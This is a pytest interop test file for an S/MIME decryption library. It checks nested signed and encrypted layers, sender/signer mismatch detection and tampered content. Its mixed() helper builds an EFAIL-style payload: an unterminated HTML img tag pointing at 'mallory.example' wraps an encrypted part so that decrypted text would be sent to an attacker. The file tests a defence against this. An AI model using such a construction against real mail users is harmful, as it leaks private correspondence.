"""Layers that strangers put around each other, taken off by us: each is reported, and all come to one verdict."""

from __future__ import annotations

from base64 import encodebytes
from typing import TYPE_CHECKING, Final

import pytest

from smime_agent.errors import NotEncryptedError
from smime_agent.verdict import Verdict
from tests.interop.correspondents import Person, Program
from tests.interop.envelope_book import EnvelopeBook
from tests.interop.exchange import ENTITY, Exchange, Opened, opened
from tests.interop.judges import Form

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

    from smime_agent.api.decrypting import Decryptor
    from tests.support.ca import Authority

    Sign = Callable[..., bytes]
    Encrypt = Callable[..., bytes]

pytestmark = pytest.mark.interop

PROGRAMS: Final = ("OpenSSL", "gpgsm", "cmsutil")
ALICE: Final = "alice@example.org"
SIGNED, ENCRYPTED = "signed", "encrypted"

every_signer = pytest.mark.parametrize("signer", PROGRAMS)
every_encrypter = pytest.mark.parametrize("encrypter", PROGRAMS)
every_form = pytest.mark.parametrize("form", Form, ids=lambda form: form.value)


# Layers, as a mail program would put them around an entity


def mail(entity: bytes, sender: str = ALICE) -> bytes:
    return f"From: {sender}\r\nTo: rsa@example.org\r\nMIME-Version: 1.0\r\n".encode() + entity


def base64_of(cms: bytes) -> bytes:
    return encodebytes(cms).replace(b"\n", b"\r\n")


def opaque(cms: bytes, smime_type: str) -> bytes:
    head = f"Content-Type: application/pkcs7-mime; smime-type={smime_type}; name=smime.p7m\r\n"
    return head.encode() + b"Content-Transfer-Encoding: base64\r\n\r\n" + base64_of(cms)


def clear(entity: bytes, signature: bytes) -> bytes:
    boundary = b"=-" + str(len(entity)).encode()  # another for each layer
    return (
        b'Content-Type: multipart/signed; protocol="application/pkcs7-signature"; micalg=sha-256;\r\n'
        b' boundary="' + boundary + b'"\r\n\r\n--' + boundary + b"\r\n" + entity + b"\r\n--" + boundary + b"\r\n"
        b"Content-Type: application/pkcs7-signature; name=smime.p7s\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        + base64_of(signature)
        + b"\r\n--"
        + boundary
        + b"--\r\n"
    )


@pytest.fixture(scope="module")
def sign(exchange: Exchange) -> Sign:
    """An entity signed by a program; each only once."""
    made: dict[tuple[object, ...], bytes] = {}

    def of(entity: bytes, program: str = "OpenSSL", form: Form = Form.CLEAR, by: Person | None = None) -> bytes:
        signer = by or exchange.people["alice"]
        key = (entity, program, form, signer.name)
        if key not in made:
            stranger = exchange.strangers[program]
            assert isinstance(stranger, Program)
            cms = stranger.sign(entity, signer, detached=form is Form.CLEAR)
            made[key] = clear(entity, cms) if form is Form.CLEAR else opaque(cms, "signed-data")
        return made[key]

    return of


@pytest.fixture(scope="module")
def encrypt(exchange: Exchange) -> Encrypt:
    """An entity encrypted by a program; each only once."""
    made: dict[tuple[object, ...], bytes] = {}

    def of(entity: bytes, program: str = "OpenSSL", to: Person | None = None, cipher: str = "aes-128-cbc") -> bytes:
        recipient = to or exchange.people["rsa"]
        key = (entity, program, recipient.name, cipher)
        if key not in made:
            cms = exchange.strangers[program].encrypt(entity, recipient, cipher=cipher)
            made[key] = opaque(cms, "enveloped-data" if cipher.endswith("cbc") else "authEnveloped-data")
        return made[key]

    return of


@pytest.fixture(scope="module")
def mallory(issuing_ca: Authority) -> Person:
    """Somebody else with a certificate."""
    return Person.enrolled("mallory", issuing_ca)


@pytest.fixture(scope="module")
def decryptor(exchange: Exchange) -> Iterator[Decryptor]:
    with exchange.decryptor() as made:
        yield made


def judged(found: Opened) -> tuple[list[str], Verdict, int]:
    return found.layers, found.found.verification.verdict, found.found.exit_code


def notes(found: Opened) -> set[str]:
    return {note.code.value for note in found.found.verification.notes} - {"revocation-not-checked", "preamble"}


# Everybody signs and encrypts


@every_form
@every_encrypter
@every_signer
def test_signed_then_encrypted(  # noqa: PLR0913, PLR0917 - all who take part
    decryptor: Decryptor, sign: Sign, encrypt: Encrypt, signer: str, encrypter: str, form: Form
) -> None:
    signed = sign(ENTITY, signer, form)
    found = opened(decryptor, mail(encrypt(signed, encrypter)))
    assert judged(found) == ([ENCRYPTED, SIGNED], Verdict.TRUSTED, 0)
    assert (found.content, notes(found)) == (signed, set())


@every_form
@every_encrypter
@every_signer
def test_encrypted_then_signed(  # noqa: PLR0913, PLR0917 - all who take part
    decryptor: Decryptor, sign: Sign, encrypt: Encrypt, signer: str, encrypter: str, form: Form
) -> None:
    found = opened(decryptor, mail(sign(encrypt(ENTITY, encrypter), signer, form)))
    assert judged(found) == ([SIGNED, ENCRYPTED], Verdict.TRUSTED, 0)
    assert (found.content, notes(found)) == (ENTITY, set())


@pytest.mark.parametrize("outer", Form, ids=lambda form: f"outside {form.value}")
@every_form
@every_encrypter
@every_signer
def test_signed_encrypted_signed(  # noqa: PLR0913, PLR0917 - all who take part
    decryptor: Decryptor, sign: Sign, encrypt: Encrypt, signer: str, encrypter: str, form: Form, outer: Form
) -> None:
    signed = sign(ENTITY, signer, form)
    found = opened(decryptor, mail(sign(encrypt(signed, encrypter), signer, outer)))
    assert judged(found) == ([SIGNED, ENCRYPTED, SIGNED], Verdict.TRUSTED, 0)
    assert (found.content, notes(found)) == (signed, set())


@pytest.mark.parametrize("signer", PROGRAMS)
def test_layers_without_mime_between_them(exchange: Exchange, decryptor: Decryptor, signer: str) -> None:
    """RFC 5652, 2: content types nest; some programs put CMS into CMS."""
    stranger = exchange.strangers[signer]
    assert isinstance(stranger, Program)
    signed = stranger.sign(ENTITY, exchange.people["alice"], detached=False)
    found = opened(decryptor, stranger.encrypt(signed, exchange.people["rsa"]))
    assert judged(found) == ([ENCRYPTED, SIGNED], Verdict.TRUSTED, 0)
    assert found.content == signed


# Who signed what


@every_form
def test_another_sender_than_who_signed_inside_is_a_mismatch(
    decryptor: Decryptor, sign: Sign, encrypt: Encrypt, form: Form
) -> None:
    """Whoever can read a mail can encrypt it again, in another name."""
    found = opened(decryptor, mail(encrypt(sign(ENTITY, form=form)), "mallory@example.org"))
    assert judged(found) == ([ENCRYPTED, SIGNED], Verdict.MISMATCH, 4)


def test_a_stranger_who_signs_outside_is_a_mismatch(
    decryptor: Decryptor, sign: Sign, encrypt: Encrypt, mallory: Person
) -> None:
    """He may have taken off the signature of who encrypted it."""
    found = opened(decryptor, mail(sign(encrypt(sign(ENTITY)), by=mallory)))
    assert judged(found) == ([SIGNED, ENCRYPTED, SIGNED], Verdict.MISMATCH, 4)


def test_a_stranger_who_signed_inside_is_a_note(
    decryptor: Decryptor, sign: Sign, encrypt: Encrypt, mallory: Person
) -> None:
    found = opened(decryptor, mail(sign(encrypt(sign(ENTITY, by=mallory)))))
    assert judged(found) == ([SIGNED, ENCRYPTED, SIGNED], Verdict.TRUSTED, 0)
    assert notes(found) == {"other-signer"}


def test_another_sender_inside_of_what_nobody_signed_is_a_note(decryptor: Decryptor, encrypt: Encrypt) -> None:
    inside = b"From: mallory@example.org\r\n" + ENTITY
    found = opened(decryptor, mail(encrypt(inside)))
    assert judged(found) == ([ENCRYPTED], Verdict.UNSIGNED, 0)
    assert notes(found) == {"other-sender"}


@every_form
def test_a_changed_content_under_the_inner_signature_is_invalid(
    exchange: Exchange, decryptor: Decryptor, sign: Sign, form: Form
) -> None:
    """It is decrypted all the same: a person wants to see what came."""
    signed = sign(ENTITY, form=form)
    if form is Form.CLEAR:
        signed = signed.replace(b"at nine", b"at five")
    else:
        cms = exchange.openssl.sign(ENTITY, exchange.people["alice"], detached=False)
        signed = opaque(cms.replace(b"at nine", b"at five"), "signed-data")
    found = opened(decryptor, mail(opaque(exchange.openssl.encrypt(signed, exchange.people["rsa"]), "enveloped-data")))
    assert judged(found) == ([ENCRYPTED, SIGNED], Verdict.INVALID, 6)
    assert found.content == signed


def test_a_changed_field_under_the_outer_signature_is_invalid(
    decryptor: Decryptor, sign: Sign, encrypt: Encrypt
) -> None:
    signed = sign(encrypt(ENTITY)).replace(b"name=smime.p7m", b"name=other.p7m", 1)
    found = opened(decryptor, mail(signed))
    assert (judged(found), found.content) == (([SIGNED, ENCRYPTED], Verdict.INVALID, 6), ENTITY)


# Encryption in encryption


def test_what_is_encrypted_twice_for_us_is_opened(exchange: Exchange, decryptor: Decryptor, encrypt: Encrypt) -> None:
    inner = encrypt(ENTITY, to=exchange.people["p256"], cipher="aes-256-gcm")
    found = opened(decryptor, mail(encrypt(inner)))
    assert (found.layers, found.content, found.found.is_authenticated) == ([ENCRYPTED, ENCRYPTED], ENTITY, False)


def test_what_is_encrypted_for_others_inside_is_left_as_it_is(
    exchange: Exchange, decryptor: Decryptor, encrypt: Encrypt
) -> None:
    inner = encrypt(ENTITY, to=exchange.people["alice"])
    found = opened(decryptor, mail(encrypt(inner)))
    assert (found.layers, found.content, notes(found)) == ([ENCRYPTED, ENCRYPTED], inner, {"no-key"})


def test_a_compressed_layer_inside_is_undone(decryptor: Decryptor, sign: Sign, encrypt: Encrypt) -> None:
    signed = sign(ENTITY)
    found = opened(decryptor, mail(encrypt(opaque(EnvelopeBook.compress(signed), "compressed-data"))))
    assert judged(found) == ([ENCRYPTED, "compressed", SIGNED], Verdict.TRUSTED, 0)
    assert found.content == signed


# Parts


@pytest.mark.parametrize("encrypter", PROGRAMS)
def test_a_part_that_is_encrypted_on_its_own_is_no_encrypted_mail(
    decryptor: Decryptor, encrypt: Encrypt, encrypter: str
) -> None:
    with pytest.raises(NotEncryptedError) as raised:
        opened(decryptor, mixed(encrypt(ENTITY, encrypter)))
    assert raised.value.parts == ("1.2",)


@pytest.mark.parametrize("encrypter", PROGRAMS)
def test_a_part_is_decrypted_alone_where_it_is_asked_for(
    decryptor: Decryptor, sign: Sign, encrypt: Encrypt, encrypter: str
) -> None:
    """Who signed it is told, and nothing around it has a say: not even the From of the mail."""
    signed = sign(ENTITY)
    with decryptor.opened(mixed(encrypt(signed, encrypter)), part="1.2") as found:
        assert (found.is_partial, b"".join(found.content())) == (True, signed)
        assert {note.code.value for note in found.verification.notes} >= {"no-sender"}


def mixed(part: bytes) -> bytes:
    before = b"--b\r\nContent-Type: text/html\r\n\r\n<img src='https://mallory.example/?\r\n--b\r\n"
    after = b"\r\n--b\r\nContent-Type: text/html\r\n\r\n'>\r\n--b--\r\n"
    return mail(b"Content-Type: multipart/mixed; boundary=b\r\n\r\n" + before + part + after)
